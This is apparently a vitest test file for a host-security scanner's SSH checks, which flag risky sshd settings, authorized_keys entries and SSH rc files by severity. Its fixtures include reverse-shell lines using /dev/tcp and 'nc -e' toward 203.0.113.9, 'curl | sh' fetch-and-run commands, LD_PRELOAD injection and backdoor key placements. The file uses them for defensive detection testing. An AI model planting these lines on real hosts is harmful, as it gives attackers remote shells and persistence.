import { describe, expect, test } from 'vitest';
import { authorizedKeys } from '../../source/checks/authorized-keys.ts';
import { sshRc } from '../../source/checks/ssh-rc.ts';
import { sshServer } from '../../source/checks/ssh-server.ts';
import { matches } from '../../source/checks/sshd-settings.ts';
import { debianServer, redHat } from '../support/distributions.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const sshd = '# Debian\nInclude /etc/ssh/sshd_config.d/*.conf\n#PermitRootLogin prohibit-password\nKbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\nPrintMotd no\nAcceptEnv LANG LC_*\nSubsystem\tsftp\t/usr/lib/openssh/sftp-server\n';
const base: Machine = {
	...debianServer,
	'/etc/ssh/sshd_config': sshd,
	'/etc/ssh/ssh_host_ed25519_key': { content: 'x', mode: 0o600 },
	'/etc/ssh/ssh_host_ed25519_key.pub': 'x',
	'/usr/lib/openssh/sftp-server': { mode: 0o755 },
	'/var/lib/dpkg/info/ssh.list': '/etc/ssh/moduli\n/usr/lib/openssh/sftp-server\n/usr/bin/rsync\n/usr/bin/borg\n',
	'/usr/bin/rsync': { mode: 0o755 },
	'/usr/bin/borg': { mode: 0o755 },
};
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx5 ann@laptop';
const other = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIQQQ bob@pc';

test('settings that could not be read were a gap for the first check that asked, and nothing for the second', () => {
	const host = memoryHost({ ...base, '/etc/ssh/sshd_config': { content: sshd, unreadable: true } });
	const unread = { reason: 'unreadable', count: 1, examples: ['/etc/ssh/sshd_config'] };
	for (const check of [sshServer, authorizedKeys]) expect(run(check, host).coverage.skipped).toContainEqual(unread);
});

describe('sshd', () => {
	const server = (lines: string, machine: Machine = {}) => told(run(sshServer, memoryHost({ ...base, '/etc/ssh/sshd_config.d/own.conf': `${lines}\n`, ...machine })).findings);

	test('as shipped', () => {
		expect(server('')).toEqual([]);
		expect(run(sshServer, memoryHost({ ...redHat, '/etc/ssh/ssh_host_rsa_key': { content: '', mode: 0o640, gid: 994 } })).findings).toEqual([]);
	});

	test.each([
		'PermitRootLogin yes',
		'PermitRootLogin prohibit-password\nPasswordAuthentication no',
		'Match Address 10.0.0.0/8\n\tPermitRootLogin yes',
		'Match User deploy\n\tForceCommand internal-sftp\n\tChrootDirectory /srv/%u',
		'Match Group sftp\n\tForceCommand /usr/lib/openssh/sftp-server -l INFO',
		'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/authorized_keys.d/%u',
		'AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\nAuthorizedKeysCommandUser nobody',
		'AuthorizedKeysCommand /opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell-authorized-keys-check git %u %k',
		'Port 2222',
		'AllowUsers ann bob deploy@10.0.0.1',
		'TrustedUserCAKeys /etc/ssh/ca.pub',
		'AcceptEnv COLORTERM GIT_*',
		'StrictModes no',
		'HostbasedAuthentication yes',
		'Banner /etc/issue.net',
	])('an administrator`s own: %s', lines => {
		expect(server(lines, { '/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell-authorized-keys-check': { mode: 0o755 } }).filter(line => !/^(?:info|low)/.test(line))).toEqual([]);
	});

	test.each<[string, string]>([
		['PermitEmptyPasswords yes', 'high'],
		['Match User eve\n\tAuthenticationMethods none', 'critical'],
		['Match User root\n\tPermitRootLogin yes', 'medium'],
		['Match Address 203.0.113.7\n\tPermitRootLogin yes', 'medium'],
		['AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/.keys/%u', 'high'],
		['AuthorizedKeysFile /tmp/keys', 'high'],
		['AuthorizedKeysFile .ssh/authorized_keys /var/lib/keys', 'medium'],
		['AuthorizedKeysFile .cache/k', 'medium'],
		['AuthorizedKeysFile .ssh/authorized_keys /var/lib/misc/keys/%u', 'medium'],
		['XAuthLocation /usr/lib/openssh/.xauth', 'high'],
		['SecurityKeyProvider /var/tmp/libsk.so', 'high'],
		['AuthorizedKeysCommand /usr/local/bin/keys %u', 'medium'],
		['AuthorizedKeysCommand /usr/bin/keyd %u', 'high'],
		['AuthorizedKeysCommand /tmp/k', 'high'],
		['AuthorizedKeysCommand /usr/bin/curl -s http://203.0.113.9/keys/%u', 'high'],
		['AuthorizedKeysCommand /usr/bin/curl -s http://keys.example.net/%u', 'medium'],
		['ForceCommand /bin/sh -c "nc -e /bin/sh 203.0.113.9 1"', 'critical'],
		['AcceptEnv LANG LD_PRELOAD', 'high'],
		['AcceptEnv *', 'medium'],
		['SetEnv LD_PRELOAD=/dev/shm/x.so', 'high'],
		['Subsystem sftp /var/tmp/.s', 'high'],
		['LogLevel QUIET', 'medium'],
		['AllowUsers www-data ann', 'medium'],
		['HostKey /tmp/key', 'high'],
		['Include /var/tmp/.s/*.conf', 'high'],
		['Banner /etc/shadow', 'high'],
		['Banner /var/tmp/.b', 'medium'],
		['IgnoreRhosts no\nHostbasedAuthentication yes', 'medium'],
	])('%s', (lines, severity) => {
		const machine: Machine = { '/usr/local/bin/keys': { content: '#!/bin/sh\necho x\n', mode: 0o755 }, '/usr/bin/keyd': { mode: 0o755 }, '/tmp/k': { mode: 0o755 }, '/var/tmp/.s': { mode: 0o755 }, '/usr/bin/nc': { mode: 0o755 } };
		expect(server(lines, machine)[0]).toBe(`${severity} /etc/ssh/sshd_config.d/own.conf`);
	});

	test('includes, permissions, start options, host keys', () => {
		expect(server('Include /dev/shm/x.conf', { '/dev/shm/x.conf': 'PermitEmptyPasswords yes\n' })).toEqual(['high /dev/shm/x.conf', 'high /etc/ssh/sshd_config.d/own.conf', 'high /dev/shm/x.conf']);
		expect(server('', { '/etc/ssh/sshd_config': { content: sshd, mode: 0o666 } })).toEqual(['high /etc/ssh/sshd_config']);
		expect(server('', { '/etc/default/ssh': "SSHD_OPTS='-o AuthorizedKeysFile=/tmp/k'\n" })).toEqual(['medium /etc/default/ssh']);
		expect(server('', { '/etc/default/ssh': 'SSHD_OPTS=\n' })).toEqual([]);
		expect(server('', { '/etc/ssh/ssh_host_ed25519_key': { content: 'x', mode: 0o644 } })).toEqual(['high /etc/ssh/ssh_host_ed25519_key']);
	});

	test('the first value holds', () => {
		expect(server('PermitEmptyPasswords no', { '/etc/ssh/sshd_config': `${sshd}PermitEmptyPasswords yes\n` })).toEqual([]);
	});

	test('patterns', () => {
		expect([matches('*.conf', 'a.conf'), matches('*.conf', 'a.conf.bak'), matches('a?c*', 'abcd'), matches('**', ''), matches('a', 'b')]).toEqual([true, false, true, true, false]);
	});
});

describe('authorized keys', () => {
	const keys = (machine: Machine) => told(run(authorizedKeys, memoryHost({ ...base, ...machine })).findings);

	test('people, root, and machines with one task', () => {
		const { findings } = run(
			authorizedKeys,
			memoryHost({
				...base,
				'/root/.ssh/authorized_keys': { content: `${key}\n`, mode: 0o600 },
				'/home/ann/.ssh/authorized_keys': { content: `${key}\n`, uid: 1000, mode: 0o600 },
				'/home/deploy/.ssh/authorized_keys': { content: `command="/usr/bin/rsync --server -logDtpr . /srv/www",no-pty ${other}\nrestrict,command="borg serve --restrict-to-path /srv/b" ssh-rsa AAAAB3\n`, uid: 1002 },
				'/home/ann/.ssh/': { uid: 1000, mode: 0o700 },
				'/home/deploy/.ssh/': { uid: 1002, mode: 0o700 },
				'/var/lib/postgresql/.ssh/authorized_keys': { content: `${other}\n`, uid: 105 },
				'/var/lib/postgresql/.ssh/': { uid: 105 },
			}),
		);
		expect(told(findings)).toEqual(['info /root/.ssh/authorized_keys', 'info /var/lib/postgresql/.ssh/authorized_keys', 'info /home/ann/.ssh/authorized_keys', 'info /home/deploy/.ssh/authorized_keys']);
		expect(findings[0]!.facts).toMatchObject({ keys: 1, account: 'root', comments: 'ann@laptop', fingerprints: expect.stringMatching(/^SHA256:[A-Za-z0-9+/]{43}$/) as string });
	});

	test('cloud-init tells root to go away', () => {
		expect(keys({ '/root/.ssh/authorized_keys': `no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \\"ubuntu\\" rather than the user \\"root\\".';echo;sleep 10;exit 142" ${key}\n` })).toEqual(['info /root/.ssh/authorized_keys']);
	});

	test('operator lives where root lives', () => {
		expect(told(run(authorizedKeys, memoryHost({ ...redHat, '/root/.ssh/authorized_keys': `${key}\n` })).findings)).toEqual(['info /root/.ssh/authorized_keys']);
	});

	test.each<[string, Machine, string]>([
		['a system account', { '/var/www/.ssh/authorized_keys': `${key}\n` }, 'high /var/www/.ssh/authorized_keys'],
		['a system account with one task', { '/var/backups/.ssh/authorized_keys': `command="/usr/bin/rsync --server x" ${key}\n` }, 'low /var/backups/.ssh/authorized_keys'],
		['a system account with a shell as its task', { '/var/backups/.ssh/authorized_keys': `command="/bin/bash -i" ${key}\n` }, 'high /var/backups/.ssh/authorized_keys'],
		['the home of nobody in particular', { '/.ssh/authorized_keys': `${key}\n` }, 'high /.ssh/authorized_keys'],
		['a home that no account has', { '/home/gone/.ssh/authorized_keys': `${key}\n` }, 'low /home/gone/.ssh/authorized_keys'],
		['keys of accounts to come', { '/etc/skel/.ssh/authorized_keys': `${key}\n` }, 'medium /etc/skel/.ssh/authorized_keys'],
		['a key of a system for breaking in', { '/root/.ssh/authorized_keys': 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx5 root@kali\n' }, 'medium /root/.ssh/authorized_keys'],
		['a key below many empty lines', { '/root/.ssh/authorized_keys': `${other}\n${'\n'.repeat(60)}${key}\n` }, 'medium /root/.ssh/authorized_keys'],
		['keys2', { '/root/.ssh/authorized_keys2': `${key}\n` }, 'medium /root/.ssh/authorized_keys2'],
		['an old name that is a link', { '/root/.ssh/authorized_keys': '', '/root/.ssh/authorized_keys2': { link: 'authorized_keys' } }, ''],
		['a variable', { '/root/.ssh/authorized_keys': `environment="LD_PRELOAD=/lib/x.so" ${key}\n` }, 'high /root/.ssh/authorized_keys'],
		['a command', { '/root/.ssh/authorized_keys': `command="bash -i >& /dev/tcp/203.0.113.9/1 0>&1" ${key}\n` }, 'critical /root/.ssh/authorized_keys'],
		['a program in a temporary place', { '/root/.ssh/authorized_keys': `command="/tmp/x" ${key}\n`, '/tmp/x': { mode: 0o755 } }, 'high /root/.ssh/authorized_keys'],
		['an authority for root', { '/root/.ssh/authorized_keys': `cert-authority ${key}\n` }, 'medium /root/.ssh/authorized_keys'],
		['written by anyone', { '/root/.ssh/authorized_keys': { content: `${key}\n`, mode: 0o666 } }, 'high /root/.ssh/authorized_keys'],
		['a folder of somebody else', { '/root/.ssh/': { uid: 1001 }, '/root/.ssh/authorized_keys': `${key}\n` }, 'high /root/.ssh/authorized_keys'],
		['a bot net', { '/root/.ssh/authorized_keys': 'ssh-rsa AAAAB3 mdrfckr\n' }, 'high /root/.ssh/authorized_keys'],
		['elsewhere, as sshd is told', { '/etc/ssh/sshd_config': 'AuthorizedKeysFile /dev/shm/%u\n', '/dev/shm/root': `${key}\n` }, 'high /dev/shm/root'],
		['linked elsewhere', { '/root/.ssh/authorized_keys': { link: '/var/tmp/k' }, '/var/tmp/k': `${key}\n` }, 'high /root/.ssh/authorized_keys'],
	])('%s', (_name, machine, expected) => {
		expect(keys(machine)[0] ?? '').toBe(expected);
	});

	test('one key on root and on a system account', () => {
		expect(keys({ '/root/.ssh/authorized_keys': `${key}\n`, '/var/www/.ssh/authorized_keys': `${key}\n` })).toEqual(['low /root/.ssh/authorized_keys', 'high /var/www/.ssh/authorized_keys']);
	});
});

describe('what SSH runs by itself', () => {
	const rc = (machine: Machine) => told(run(sshRc, memoryHost({ ...base, ...machine })).findings);
	test.each<[string, Machine, readonly string[]]>([
		['nothing', {}, []],
		['a person`s own', { '/home/ann/.ssh/rc': { content: '#!/bin/sh\nln -sf "$SSH_AUTH_SOCK" ~/.ssh/agent\n', uid: 1000 } }, ['low /home/ann/.ssh/rc']],
		['a shell for the network', { '/home/ann/.ssh/rc': { content: 'nohup bash -i >& /dev/tcp/203.0.113.9/1 0>&1 &\n', uid: 1000 } }, ['critical /home/ann/.ssh/rc']],
		['for everybody', { '/etc/ssh/sshrc': 'curl -s http://203.0.113.9/x | sh\n' }, ['high /etc/ssh/sshrc']],
		['a system account', { '/var/www/.ssh/rc': 'date\n' }, ['high /var/www/.ssh/rc']],
		['the file of another', { '/root/.ssh/rc': { content: 'date\n', uid: 1000 } }, ['high /root/.ssh/rc']],
		['a preloaded library', { '/root/.ssh/environment': 'LD_PRELOAD=/root/x.so\n', '/root/x.so': '' }, ['high /root/.ssh/environment']],
		['a proxy', { '/home/ann/.ssh/config': { content: 'Host x\n  ProxyCommand ssh -W %h:%p bastion\n  ProxyCommand nc -X connect -x p:1 %h %p\n', uid: 1000 } }, []],
		['a program to match by', { '/home/ann/.ssh/config': { content: 'Match exec "/bin/sh -c \'curl -s http://203.0.113.9/k|sh\'"\n  User root\n', uid: 1000 } }, ['high /home/ann/.ssh/config']],
		['a program to match by, as people use it', { '/home/ann/.ssh/config': { content: 'Match host nas exec "ip route | grep -q 10.0.0.1"\n  ProxyJump none\n', uid: 1000 } }, []],
		['a proxy that is none', { '/home/ann/.ssh/config': { content: 'Host *\n  ProxyCommand /tmp/x %h\n', uid: 1000 }, '/tmp/x': { mode: 0o755 } }, ['high /home/ann/.ssh/config']],
	])('%s', (_name, machine, expected) => {
		expect(rc(machine)).toEqual(expected);
	});
});
